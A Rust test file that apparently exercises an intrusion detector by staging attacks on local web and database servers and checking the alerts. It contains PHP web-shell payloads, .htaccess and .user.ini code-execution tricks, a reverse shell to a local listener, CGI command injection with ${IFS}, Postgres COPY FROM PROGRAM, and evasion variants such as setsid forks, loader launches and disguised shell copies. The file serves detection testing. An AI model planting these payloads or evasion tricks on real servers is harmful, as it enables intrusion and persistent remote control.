//! What intruders do, through real servers. Every story asserts the facts of exactly the alerts
//! that it must cause, and that the payload did what it claims.

use std::io::{BufRead as _, BufReader, Read as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

use crate::alert::{
    self, CODE_WRITE, CONTROL_WRITE, CRITICAL, DATABASE_SHELL, DROPPED_EXEC, Expected, HIGH,
    REVERSE_SHELL, Rule, SHELL,
};
use crate::host::{self, Outcome, Skip, User, real};
use crate::http;
use crate::scene::{Scene, Story};
use crate::server::{self, Postgres, Site};

/// A page that executes something.
///
/// `TOKEN` stands for a word that the answer must hold, `DIR` for the site's folder.
struct Execution {
    name: &'static str,
    rule: Rule,
    php: &'static str,
    executable: &'static str,
    args: &'static [&'static str],
    /// Names of the processes between the executed one and PHP, nearest first.
    via: &'static [&'static str],
}

const EXECUTIONS: &[Execution] = &[
    Execution {
        name: "system",
        rule: SHELL,
        php: "system('echo TOKEN');",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "exec",
        rule: SHELL,
        php: "echo exec('echo TOKEN');",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "shell_exec",
        rule: SHELL,
        php: "echo shell_exec('echo TOKEN');",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "passthru",
        rule: SHELL,
        php: "passthru('echo TOKEN');",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "backticks",
        rule: SHELL,
        php: "echo `echo TOKEN`;",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "popen",
        rule: SHELL,
        php: "$p = popen('echo TOKEN', 'r'); echo stream_get_contents($p); pclose($p);",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "a program that is no shell, through one",
        rule: SHELL,
        php: "system('/usr/bin/id -un; echo TOKEN');",
        executable: "/bin/sh",
        args: &["sh", "-c", "/usr/bin/id -un; echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "proc_open of a string",
        rule: SHELL,
        php: "$p = proc_open('echo TOKEN', [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/bin/sh",
        args: &["sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "proc_open of a list, commands on standard input",
        rule: SHELL,
        php: "$p = proc_open(['/bin/bash', '--norc', '-s'],\n\
              [['pipe', 'r'], ['pipe', 'w']], $io);\n\
              fwrite($io[0], \"echo TOKEN\\n\"); fclose($io[0]);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/bin/bash",
        args: &["/bin/bash", "--norc", "-s"],
        via: &[],
    },
    Execution {
        name: "a shell behind env",
        rule: SHELL,
        php: "$p = proc_open(['/usr/bin/env', 'A=1', '/bin/sh', '-c', 'echo TOKEN'],\n\
              [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/bin/sh",
        args: &["/bin/sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "a script with an interpreter line",
        rule: DROPPED_EXEC,
        php: "file_put_contents('DIR/tmp/tool', \"#!/bin/sh\\necho TOKEN\\n\");\n\
              chmod('DIR/tmp/tool', 0755);\n\
              $p = proc_open(['DIR/tmp/tool'], [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/bin/sh",
        args: &["/bin/sh", "DIR/tmp/tool"],
        via: &[],
    },
    Execution {
        name: "a copy of a shell under another name",
        rule: DROPPED_EXEC,
        php: "copy('/bin/dash', 'DIR/tmp/.cache'); chmod('DIR/tmp/.cache', 0755);\n\
              $p = proc_open(['DIR/tmp/.cache', '-c', 'echo TOKEN'], [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "DIR/tmp/.cache",
        args: &["DIR/tmp/.cache", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "a shell that two forks and two setsid took away",
        rule: SHELL,
        php: "$p = proc_open(['/usr/bin/setsid', '--fork', '/usr/bin/setsid', '--fork',\n\
              '/bin/sh', '-c', 'echo TOKEN'], [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/bin/sh",
        args: &["/bin/sh", "-c", "echo TOKEN"],
        via: &["setsid", "setsid"],
    },
    Execution {
        name: "a shell that the dynamic loader starts",
        rule: SHELL,
        php: "$p = proc_open(['/lib64/ld-linux-x86-64.so.2', '/bin/sh', '-c', 'echo TOKEN'],\n\
              [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/lib64/ld-linux-x86-64.so.2",
        args: &["/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "the shell of busybox",
        rule: SHELL,
        php: "$p = proc_open(['/usr/bin/busybox', 'sh', '-c', 'echo TOKEN'],\n\
              [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/usr/bin/busybox",
        args: &["/usr/bin/busybox", "sh", "-c", "echo TOKEN"],
        via: &[],
    },
    Execution {
        name: "python",
        rule: SHELL,
        php: "$p = proc_open(['/usr/bin/python3', '-c', 'print(\"TOKEN\")'],\n\
              [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/usr/bin/python3",
        args: &["/usr/bin/python3", "-c", "print(\"TOKEN\")"],
        via: &[],
    },
    Execution {
        name: "perl",
        rule: SHELL,
        php: "$p = proc_open(['/usr/bin/perl', '-e', 'print \"TOKEN\"'],\n\
              [1 => ['pipe', 'w']], $io);\n\
              echo stream_get_contents($io[1]); proc_close($p);",
        executable: "/usr/bin/perl",
        args: &["/usr/bin/perl", "-e", "print \"TOKEN\""],
        via: &[],
    },
];

/// php-fpm is built without pcntl; php-cgi and the command line have it.
const PCNTL_EXEC: Execution = Execution {
    name: "pcntl_exec",
    rule: SHELL,
    php: "$pid = pcntl_fork();\n\
          if ($pid === 0) { pcntl_exec('/bin/sh', ['-c', 'echo TOKEN > DIR/tmp/out']); exit(1); }\n\
          pcntl_waitpid($pid, $status); readfile('DIR/tmp/out');",
    executable: "/bin/sh",
    args: &["/bin/sh", "-c", "echo TOKEN > DIR/tmp/out"],
    via: &[],
};

/// A page that writes where it is served. `DIR` stands for the site's folder.
struct Write {
    name: &'static str,
    /// What is there before, put there by the administrator: path in the site's folder, content.
    before: Option<(&'static str, &'static str)>,
    php: &'static str,
    /// What is written, below the site's folder.
    file: &'static str,
}

const WRITES: &[Write] = &[
    Write {
        name: "file_put_contents",
        before: None,
        php: "file_put_contents('shell.php', '<?php system($_GET[0]);');",
        file: "public/shell.php",
    },
    Write {
        name: "a hidden name in uploads",
        before: None,
        php: "file_put_contents('uploads/.cache.phtml', '<?php system($_GET[0]);');",
        file: "public/uploads/.cache.phtml",
    },
    Write {
        name: "rename of a text",
        before: None,
        php: "file_put_contents('note.txt', '<?php system($_GET[0]);');\n\
              rename('note.txt', 'note.php');",
        file: "public/note.php",
    },
    Write {
        name: "rename from a folder that is not served",
        before: None,
        php: "file_put_contents('DIR/tmp/page', '<?php system($_GET[0]);');\n\
              rename('DIR/tmp/page', 'DIR/public/page.php');",
        file: "public/page.php",
    },
    Write {
        name: "append to a page",
        before: Some(("public/index.php", "<?php echo 'welcome';\n")),
        php: "file_put_contents('index.php', 'system($_GET[0]);', FILE_APPEND);",
        file: "public/index.php",
    },
    Write {
        name: "copy",
        before: Some(("storage/seed", "<?php system($_GET[0]);")),
        php: "copy('DIR/storage/seed', 'copied.php');",
        file: "public/copied.php",
    },
    Write {
        name: ".htaccess",
        before: None,
        php: "file_put_contents('uploads/.htaccess', 'AddType application/x-httpd-php .png');",
        file: "public/uploads/.htaccess",
    },
    Write {
        name: ".user.ini",
        before: None,
        php: "file_put_contents('.user.ini', 'auto_prepend_file=uploads/a.png');",
        file: "public/.user.ini",
    },
    Write {
        name: "through a symbolic link to a directory",
        before: None,
        php: "symlink('DIR/public/uploads', 'DIR/storage/media');\n\
              file_put_contents('DIR/storage/media/linked.php', '<?php system($_GET[0]);');",
        file: "public/uploads/linked.php",
    },
];

/// Every attack story.
pub(crate) fn stories() -> Vec<Story> {
    let mut stories: Vec<Story> = Vec::new();
    for execution in EXECUTIONS {
        stories.push(Story::new(
            &format!("php-fpm: {}", execution.name),
            |scene| execute(scene, &scene.site, execution),
        ));
    }
    for write in WRITES {
        stories.push(Story::new(&format!("php-fpm: {}", write.name), |scene| {
            write_code(scene, write)
        }));
    }
    stories.extend([
        Story::new("php-fpm: through a bind mount", bind_mount),
        Story::new("php-fpm: move_uploaded_file", move_uploaded_file),
        Story::new("php-fpm: a reverse shell", reverse_shell),
        Story::new("php-fpm: a shell's redirection into the root", redirection),
        Story::new("php-fpm: in the cgroup of a container", container),
        Story::new("apache: mod_php system", |scene| {
            execute(scene, &server::apache()?, &EXECUTIONS[0])
        }),
        Story::new("apache: a command in a CGI script", cgi_injection),
        Story::new("lighttpd: php-cgi pcntl_exec", |scene| {
            execute(scene, &server::lighttpd_php_cgi()?, &PCNTL_EXEC)
        }),
        Story::new("php -S: pcntl_exec", |scene| {
            execute(scene, &server::php_builtin()?, &PCNTL_EXEC)
        }),
        Story::new("php -S: pcntl_exec in place of the server", exec_in_place),
        Story::new("node: child_process.exec", |scene| {
            let site = server::node()?;
            application(scene, &site, "/bin/sh", &["/bin/sh", "-c", "echo TOKEN"])
        }),
        Story::new("python: os.system", |scene| {
            let site = server::python()?;
            let command = format!("echo TOKEN > {}", site.dir().join("tmp/out").display());
            application(scene, &site, "/bin/sh", &["sh", "-c", &command])
        }),
        Story::new("java: Runtime.exec", |scene| {
            let site = server::java()?;
            application(
                scene,
                &site,
                "/bin/bash",
                &["/bin/bash", "-c", "echo TOKEN"],
            )
        }),
        Story::new("postgres: COPY FROM PROGRAM", copy_from_program),
    ]);
    stories
}

fn execute(scene: &Scene, site: &Site, execution: &Execution) -> Outcome {
    let program = Path::new(execution.args[0]);
    if program.is_absolute() && !program.exists() {
        return Err(Skip(format!("{} is not installed", program.display())));
    }
    let token = host::token();
    let fill = |text: &str| {
        text.replace("TOKEN", &token)
            .replace("DIR", &site.dir().path().display().to_string())
    };
    let page = format!("{token}.php");
    site.page(&page, &format!("<?php\n{}\n", fill(execution.php)));
    let expected = |executable: PathBuf| Expected {
        executable,
        args: Some(execution.args.iter().map(|arg| fill(arg)).collect()),
        ..scene.expected(site, execution.rule, execution.via)
    };
    let alerts = scene.alerts_of(1, || {
        let response = site.get(&format!("/{page}"));
        assert!(response.body.contains(&token), "{page}: {response:?}");
    });
    let executable = real(fill(execution.executable));
    alert::expect_exactly(execution.name, &alerts, &[expected(executable)]);
    Ok(())
}

/// The server itself becomes a shell: no fork, and no server any more but in the past.
fn exec_in_place(scene: &Scene) -> Outcome {
    let site = server::php_builtin()?;
    let token = host::token();
    let out = site.dir().join("tmp/out");
    let command = format!("echo {token} > {}", out.display());
    site.page(
        "become.php",
        &format!("<?php\npcntl_exec('/bin/sh', ['-c', '{command}']);\n"),
    );
    let expected = Expected {
        executable: real("/bin/sh"),
        args: Some(vec!["/bin/sh".to_owned(), "-c".to_owned(), command]),
        ..by_server(scene.expected(&site, SHELL, &[]))
    };
    scene.expect("exec in place", &[expected], || {
        let answer = http::try_get(site.port, "/become.php");
        assert!(answer.is_err(), "{answer:?}");
        host::wait_for("the shell's output", || {
            let said = std::fs::read_to_string(&out).ok()?;
            (said.trim() == token).then_some(())
        });
    });
    Ok(())
}

fn write_code(scene: &Scene, write: &Write) -> Outcome {
    let site = &scene.site;
    let dir = site.dir().path().display().to_string();
    if let Some((name, content)) = write.before {
        let path = site.dir().file(name, content);
        give(&path, &site.user);
    }
    let page = format!("{}.php", host::token());
    site.page(
        &page,
        &format!("<?php\n{}\necho 'done';\n", write.php.replace("DIR", &dir)),
    );
    let file = site.dir().join(write.file);
    let controls = [".htaccess", ".user.ini"].contains(&write.name);
    let rule = if controls { CONTROL_WRITE } else { CODE_WRITE };
    let expected = Expected {
        file: Some(file.clone()),
        ..by_server(scene.expected(site, rule, &[]))
    };
    scene.expect(write.name, &[expected], || {
        let response = site.get(&format!("/{page}"));
        assert_eq!(response.body, "done");
        assert!(file.is_file(), "{} was written", file.display());
    });
    // Some of these change how the server treats the pages of later stories.
    std::fs::remove_file(file).expect("what was written");
    Ok(())
}

/// The path that the page writes to leads nowhere near the document root: only the directory itself tells.
fn bind_mount(scene: &Scene) -> Outcome {
    let site = &scene.site;
    let elsewhere = site.dir().dir("elsewhere", None);
    let mount = Mount::bind(site.docroot(), &elsewhere)?;
    let name = format!("{}.php", host::token());
    let path = elsewhere.join("uploads").join(&name);
    let page = format!("{}.php", host::token());
    site.page(
        &page,
        &format!(
            "<?php\nfile_put_contents('{}', '<?php system($_GET[0]);');\necho 'done';\n",
            path.display()
        ),
    );
    let expected = Expected {
        file: Some(path),
        ..by_server(scene.expected(site, CODE_WRITE, &[]))
    };
    scene.expect("through a bind mount", &[expected], || {
        let response = site.get(&format!("/{page}"));
        assert_eq!(response.body, "done");
    });
    let written = site.docroot().join("uploads").join(name);
    std::fs::remove_file(written).expect("what was written");
    drop(mount);
    Ok(())
}

/// A mount that ends with the value.
struct Mount(PathBuf);

impl Mount {
    fn bind(from: &Path, to: &Path) -> Result<Self, Skip> {
        rustix::mount::mount_bind(from, to)
            .map_err(|error| Skip(format!("cannot mount {}: {error}", to.display())))?;
        Ok(Self(to.to_owned()))
    }
}

impl Drop for Mount {
    fn drop(&mut self) {
        // Also where the story failed: what is mounted there is the site, which must not be removed twice.
        let flags = rustix::mount::UnmountFlags::DETACH;
        let _gone = rustix::mount::unmount(&self.0, flags);
    }
}

/// The most ordinary upload: PHP has the body in its upload folder and renames it into the root.
fn move_uploaded_file(scene: &Scene) -> Outcome {
    let site = &scene.site;
    site.page(
        "upload.php",
        "<?php\n$to = __DIR__ . '/uploads/' . basename($_FILES['f']['name']);\n\
         echo move_uploaded_file($_FILES['f']['tmp_name'], $to) ? 'moved' : 'failed';\n",
    );
    let file = site.docroot().join("uploads/avatar.php");
    let expected = Expected {
        file: Some(file.clone()),
        ..by_server(scene.expected(site, CODE_WRITE, &[]))
    };
    scene.expect("move_uploaded_file", &[expected], || {
        let content = b"<?php system($_GET[0]);";
        let response = http::upload(site.port, "/upload.php", "avatar.php", content);
        assert_eq!(response.body, "moved");
        assert_eq!(std::fs::read(&file).expect("the upload"), content);
    });
    Ok(())
}

/// Takes one connection, says what it is told to, and prints its port and then what it hears: in a process
/// of its own, as these tests serve nobody.
pub(crate) const INTRUDER: &str = "import socket, sys
listener = socket.create_server(('127.0.0.1', 0))
listener.settimeout(30)
print(listener.getsockname()[1], flush=True)
stream = listener.accept()[0]
stream.settimeout(30)
stream.sendall(sys.argv[1].encode())
while heard := stream.recv(4096):
    print(heard.decode(), end='', flush=True)
";

/// A shell whose input and output are a connection to the intruder.
fn reverse_shell(scene: &Scene) -> Outcome {
    let site = &scene.site;
    let token = host::token();
    let mut intruder = Command::new(host::program("python3")?)
        .args(["-c", INTRUDER, &format!("echo {token}\nexit\n")])
        .stdout(Stdio::piped())
        .spawn()
        .expect("an intruder");
    let mut said = BufReader::new(intruder.stdout.take().expect("its output"));
    let mut line = String::new();
    said.read_line(&mut line).expect("its port");
    let port: u16 = line.trim().parse().expect("a port");
    site.page(
        "reverse.php",
        &format!(
            "<?php\n$s = fsockopen('127.0.0.1', {port});\n\
             proc_close(proc_open(['/bin/sh'], [$s, $s, $s], $io));\necho 'done';\n"
        ),
    );
    let expected = Expected {
        severity: CRITICAL,
        executable: real("/bin/sh"),
        args: Some(vec!["/bin/sh".to_owned()]),
        ..scene.expected(site, REVERSE_SHELL, &[])
    };
    let alerts = scene.alerts_of(1, || {
        assert_eq!(site.get("/reverse.php").body, "done");
        let mut heard = String::new();
        said.read_to_string(&mut heard).expect("a connection");
        assert_eq!(heard.trim(), token);
        assert!(intruder.wait().expect("its end").success());
    });
    alert::expect_exactly("reverse shell", &alerts, &[expected]);
    let peer = alerts[0].pointer("/tracer/stdin/peer/port");
    assert_eq!(peer, Some(&Value::from(port)), "peer of standard input");
    Ok(())
}

/// Two alerts: the shell, and what the shell wrote.
fn redirection(scene: &Scene) -> Outcome {
    let site = &scene.site;
    let file = site.docroot().join("redirected.php");
    let command = format!("echo '<?php' > {}", file.display());
    site.page(
        "redirect.php",
        &format!("<?php\nsystem(\"{command}\");\necho 'done';\n"),
    );
    let args: Vec<String> = vec!["sh".to_owned(), "-c".to_owned(), command];
    let shell = Expected {
        executable: real("/bin/sh"),
        args: Some(args),
        ..scene.expected(site, SHELL, &[])
    };
    let write = Expected {
        rule: CODE_WRITE,
        file: Some(file.clone()),
        ..shell.clone()
    };
    scene.expect("redirection", &[shell, write], || {
        assert_eq!(site.get("/redirect.php").body, "done");
        assert!(file.is_file());
    });
    Ok(())
}

/// The shell inherits the cgroup that a container runtime would have put the servers into.
fn container(scene: &Scene) -> Outcome {
    let site = &scene.site;
    let master = site.pid(0);
    // Of the length and alphabet of a container id.
    let id = format!("{:064x}", u128::from(master) << 64 | 0xc0ff_ee00);
    let cgroup = Cgroup::new(&format!("docker/{id}"))?;
    for master in [master, site.pid(1)] {
        for pid in host::children(master).into_iter().chain([master]) {
            cgroup.take(pid)?;
        }
    }
    site.page("container.php", "<?php\nsystem('echo inside');\n");
    let alerts = scene.alerts_of(1, || {
        assert_eq!(site.get("/container.php").body.trim(), "inside");
    });
    let expected = Expected {
        executable: real("/bin/sh"),
        args: Some(["sh", "-c", "echo inside"].map(str::to_owned).to_vec()),
        ..scene.expected(site, SHELL, &[])
    };
    alert::expect_exactly("container", &alerts, &[expected]);
    assert_eq!(alert::text(&alerts[0], "/container/id"), id);
    Ok(())
}

/// A cgroup of our own. Dropping it sends its processes back and removes it.
pub(crate) struct Cgroup {
    above: PathBuf,
    path: PathBuf,
}

impl Cgroup {
    /// One of this path below the root.
    pub(crate) fn new(name: &str) -> Result<Self, Skip> {
        let above = ["/sys/fs/cgroup/memory", "/sys/fs/cgroup"]
            .map(PathBuf::from)
            .into_iter()
            .find(|root| root.join("cgroup.procs").is_file())
            .ok_or_else(|| Skip("no cgroups are mounted".to_owned()))?;
        let path = above.join(name);
        std::fs::create_dir_all(&path)
            .map_err(|error| Skip(format!("cannot make {}: {error}", path.display())))?;
        Ok(Self { above, path })
    }

    /// Puts a process into it.
    pub(crate) fn take(&self, pid: u32) -> Result<(), Skip> {
        std::fs::write(self.path.join("cgroup.procs"), pid.to_string())
            .map_err(|error| Skip(format!("cannot enter {}: {error}", self.path.display())))
    }
}

impl Drop for Cgroup {
    fn drop(&mut self) {
        let inside = std::fs::read_to_string(self.path.join("cgroup.procs")).unwrap_or_default();
        for pid in inside.lines() {
            // One that has ended meanwhile needs no way back.
            let _ended = std::fs::write(self.above.join("cgroup.procs"), pid);
        }
        for path in [Some(self.path.as_path()), self.path.parent()]
            .into_iter()
            .flatten()
        {
            // The parent stays where something else is in it.
            let _in_use = std::fs::remove_dir(path);
        }
    }
}

/// The configured script is no alert; what a visitor makes it execute is.
fn cgi_injection(scene: &Scene) -> Outcome {
    let site = server::apache()?;
    let script = site.dir().script(
        "cgi-bin/report",
        "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'\nsh -c \"$QUERY_STRING\"\n",
    );
    let token = host::token();
    let via = host::base_name(&real("/bin/sh"));
    let injected = Expected {
        executable: real("/bin/sh"),
        args: Some(vec![
            "sh".to_owned(),
            "-c".to_owned(),
            format!("echo${{IFS}}{token}"),
        ]),
        ..scene.expected(&site, SHELL, &[&via])
    };
    scene.expect("CGI injection", &[injected], || {
        let response = site.get(&format!("/cgi-bin/report?echo${{IFS}}{token}"));
        assert!(
            response.body.contains(&token),
            "{}: {response:?}",
            script.display()
        );
    });
    Ok(())
}

/// Asks an application that executes what `c` holds. `TOKEN` stands for what the answer must hold.
fn application(scene: &Scene, site: &Site, executable: &str, args: &[&str]) -> Outcome {
    let token = host::token();
    let expected = Expected {
        executable: real(executable),
        args: Some(
            args.iter()
                .map(|arg| arg.replace("TOKEN", &token))
                .collect(),
        ),
        ..scene.expected(site, SHELL, &[])
    };
    scene.expect(site.server, &[expected], || {
        let response = site.get(&format!("/?c=echo%20{token}"));
        assert_eq!(response.body.trim(), token);
    });
    Ok(())
}

fn copy_from_program(scene: &Scene) -> Outcome {
    let postgres = Postgres::start()?;
    let token = host::token();
    let expected = Expected {
        rule: DATABASE_SHELL,
        severity: HIGH,
        executable: real("/bin/sh"),
        args: Some(vec![
            "sh".to_owned(),
            "-c".to_owned(),
            format!("echo {token}"),
        ]),
        via: vec!["postgres".to_owned(); 2],
        depth: 1,
        above: scene.above().to_vec(),
        server: "postgresql",
        user: postgres.cluster.user.name.clone(),
        file: None,
    };
    scene.expect("COPY FROM PROGRAM", &[expected], || {
        let answer = postgres.cluster.query(&format!(
            "CREATE TEMP TABLE t (x text); COPY t FROM PROGRAM 'echo {token}'; SELECT x FROM t"
        ));
        assert!(
            answer.contains(&token),
            "server {}: {answer}",
            postgres.pid()
        );
    });
    Ok(())
}

/// The same expectation for what a server's process does itself: it is the first of the site's
/// processes, and its ancestors are the others.
fn by_server(mut expected: Expected) -> Expected {
    expected.via.remove(0);
    expected.depth = 0;
    expected
}

/// Makes a file that the administrator wrote the server's own.
fn give(path: &Path, user: &User) {
    std::os::unix::fs::chown(path, Some(user.uid), Some(user.gid)).expect("chown");
}
